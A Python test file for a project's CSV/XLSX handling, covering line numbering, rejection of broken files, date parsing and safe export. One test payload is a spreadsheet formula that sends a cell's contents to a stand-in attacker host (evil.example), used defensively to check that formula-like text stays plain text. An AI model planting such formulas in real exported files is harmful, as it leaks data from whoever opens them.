import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from gonghui.core.errors import ImportRejected
from gonghui.core.tabular import parse_date_cell, read_table, write_xlsx


def test_line_numbers_follow_the_file_and_skip_blank_lines() -> None:
    table = read_table(b"a,b\n1,2\n\n3,4\n")
    assert table.headers == ["a", "b"]
    assert [(row.line, row.get("a")) for row in table.rows] == [(2, "1"), (4, "3")]


def test_an_empty_file_and_a_broken_workbook_are_refused() -> None:
    with pytest.raises(ImportRejected) as empty:
        read_table(b"  \n")
    assert str(empty.value.errors[0]) == "文件为空"
    with pytest.raises(ImportRejected) as broken:
        read_table(b"PK\x03\x04not really a zip")
    assert "XLSX 文件已损坏" in str(broken.value.errors[0])


@pytest.mark.parametrize("text", ["2025-01-31", "20250131", "2025/1/31", "2025.01.31"])
def test_dates_are_read_in_the_forms_banks_write(text: str) -> None:
    assert parse_date_cell(text).isoformat() == "2025-01-31"


@pytest.mark.parametrize("text", ["31/01/2025", "2025-13-01", "", "昨天"])
def test_other_dates_are_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r"格式不正确|不存在|请填写"):
        parse_date_cell(text)


EVIL = '=WEBSERVICE("http://evil.example/?"&B2)'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-3+4", "@SUM(A1)", "=1+1"])
def test_exported_text_that_looks_like_a_formula_stays_text(text: str) -> None:
    content = write_xlsx("名单", ["姓名", "身份证号"], [[text, "370602198001151234"]])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml, "no formula element in the sheet"
    cell = load_workbook(io.BytesIO(content)).active["A2"]
    assert cell.data_type == "s"
    assert cell.value == text


def test_numbers_and_dates_are_still_written_as_themselves() -> None:
    content = write_xlsx("表", ["金额", "日期"], [[-12, date(2025, 2, 10)]])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].value == -12
    assert sheet["B2"].is_date
